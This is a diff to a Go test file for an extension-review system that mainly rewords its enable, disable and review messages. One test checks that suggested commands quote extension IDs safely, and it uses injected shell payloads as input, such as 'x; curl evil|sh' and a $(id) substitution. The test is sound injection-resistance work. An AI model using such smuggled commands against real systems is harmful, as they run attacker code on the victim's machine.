@@ -32,7 +32,7 @@ func TestCourse(t *testing.T) {
 	if st.State != review.Unreviewed || st.Shown.Version != 0 || st.Differences != nil {
 		t.Errorf("Status = %+v, want new", st)
 	}
-	const sentence = "extension tools.git is off: it has not been reviewed; ken extension review tools.git shows what it asks for, ken extension enable tools.git switches it on"
+	const sentence = "extension tools.git is disabled: it has not been reviewed; see what it asks for with ken extension review tools.git, then run ken extension enable tools.git"
 	if got := st.Why + "; " + st.Fix; got != sentence {
 		t.Errorf("reason = %q, want %q", got, sentence)
 	}
@@ -64,7 +64,7 @@ func TestCourse(t *testing.T) {
 		t.Fatalf("Disable = %+v, %v", off, err)
 	}
 	d = again()
-	wantKind(t, d.Check(ctx, pia.Tenant, book, action), capability.Denied, nil, "pia switched it off at", "too loud")
+	wantKind(t, d.Check(ctx, pia.Tenant, book, action), capability.Denied, nil, "pia disabled it at", "too loud")
 	st = status(t, d, m)
 	if st.State != review.Disabled || st.Shown.Version != off[0].Version {
 		t.Errorf("Status = %+v, want disabled at version %d", st, off[0].Version)
@@ -76,7 +76,7 @@ func TestCourse(t *testing.T) {
 	p.manifest = strings.Replace(p.manifest, "1.2", "1.3", 1)
 	p.write(t, dir)
 	now := manifest(t, dir, capability.TrustUser)
-	wantKind(t, d.Check(ctx, pia.Tenant, bookOf(now), now.Actions[0]), capability.Denied, nil, "not what was accepted", "shows what changed")
+	wantKind(t, d.Check(ctx, pia.Tenant, bookOf(now), now.Actions[0]), capability.Denied, nil, "differs from the accepted version", "see what changed")
 	if err := d.Check(ctx, pia.Tenant, book, action); err != nil {
 		t.Errorf("Check of what was accepted = %v", err)
 	}
@@ -110,7 +110,7 @@ func TestEnableIsBoundToWhatWasShown(t *testing.T) {
 		t.Fatal(err)
 	}
 	_, err = d.Enable(ctx, m, shown, yes(""))
-	wantKind(t, err, capability.Conflict, review.ErrSaid, "pia switched it off", "I do not like it")
+	wantKind(t, err, capability.Conflict, review.ErrSaid, "pia turned it off", "I do not like it")
 	if st := status(t, d, m); st.State != review.Disabled {
 		t.Errorf("state = %s, want disabled", st.State)
 	}
@@ -181,12 +181,12 @@ func TestStoreFails(t *testing.T) {
 		t.Errorf("Check without time = %v, want unavailable", err)
 	}
 	s.Close()
-	wantKind(t, d.Check(ctx, pia.Tenant, book, action), capability.Unavailable, nil, "cannot be read", "the store is closed", "ken doctor")
+	wantKind(t, d.Check(ctx, pia.Tenant, book, action), capability.Unavailable, nil, "cannot read whether it was accepted", "the store is closed", "ken doctor")
 	on := d.Switches(ctx, pia.Tenant)
 	if on.Err() == nil || on.State(m) != review.Unknown {
 		t.Errorf("Switches = %v, %v, want unknown", on.State(m), on.Err())
 	}
-	if why, mend := on.Off(book, action); !strings.Contains(why, "cannot be read") || mend == "" {
+	if why, mend := on.Off(book, action); !strings.Contains(why, "cannot read whether it was accepted") || mend == "" {
 		t.Errorf("Off = %q, %q", why, mend)
 	}
 	other := *action
@@ -200,11 +200,11 @@ func TestStoreFails(t *testing.T) {
 	_, err := d.Enable(ctx, m, review.Shown{Digest: m.Digest}, yes(""))
 	wantKind(t, err, capability.Unavailable, store.ErrClosed)
 	_, err = d.Disable(ctx, m.Key(), yes(""))
-	wantKind(t, err, capability.Unavailable, store.ErrClosed, "may still be on")
-	if why, _ := (*review.Switches)(nil).Off(book, action); !strings.Contains(why, "is off") {
+	wantKind(t, err, capability.Unavailable, store.ErrClosed, "may still be enabled")
+	if why, _ := (*review.Switches)(nil).Off(book, action); !strings.Contains(why, "is disabled") {
 		t.Errorf("nil Switches: Off = %q, want it off", why)
 	}
-	if why, _ := on.Off(nil, action); !strings.Contains(why, "is off") {
+	if why, _ := on.Off(nil, action); !strings.Contains(why, "is disabled") {
 		t.Errorf("nil Book: Off = %q, want it off", why)
 	}
 	if _, err := review.New(nil, review.Config{}); err == nil {
@@ -242,7 +242,7 @@ func TestDamagedRecord(t *testing.T) {
 				t.Fatal(err)
 			}
 			d := newDesk(t, s, review.Config{})
-			wantKind(t, d.Check(ctx, pia.Tenant, book, action), capability.Denied, nil, "cannot be read", "extension/switch/")
+			wantKind(t, d.Check(ctx, pia.Tenant, book, action), capability.Denied, nil, "cannot read whether it was accepted", "extension/switch/")
 			st, err := d.Status(ctx, pia.Tenant, m)
 			if err == nil || st.State != review.Unknown || st.Shown.Version == 0 {
 				t.Errorf("Status = %+v, %v, want unknown and the version", st, err)
@@ -405,9 +405,9 @@ func TestRaces(t *testing.T) {
 // package calls itself.
 func TestMendIsNoTrap(t *testing.T) {
 	for id, want := range map[string]string{
-		"tools.git":       "ken extension review tools.git shows",
-		"x; curl evil|sh": "ken extension review 'x; curl evil|sh' shows",
-		"x'$(id)":         `ken extension review 'x'\''$(id)' shows`,
+		"tools.git":       "see what it asks for with ken extension review tools.git,",
+		"x; curl evil|sh": "see what it asks for with ken extension review 'x; curl evil|sh',",
+		"x'$(id)":         `see what it asks for with ken extension review 'x'\''$(id)',`,
 	} {
 		x, a := base()
 		x.ID = capability.MakeID(capability.KindExtension, id)
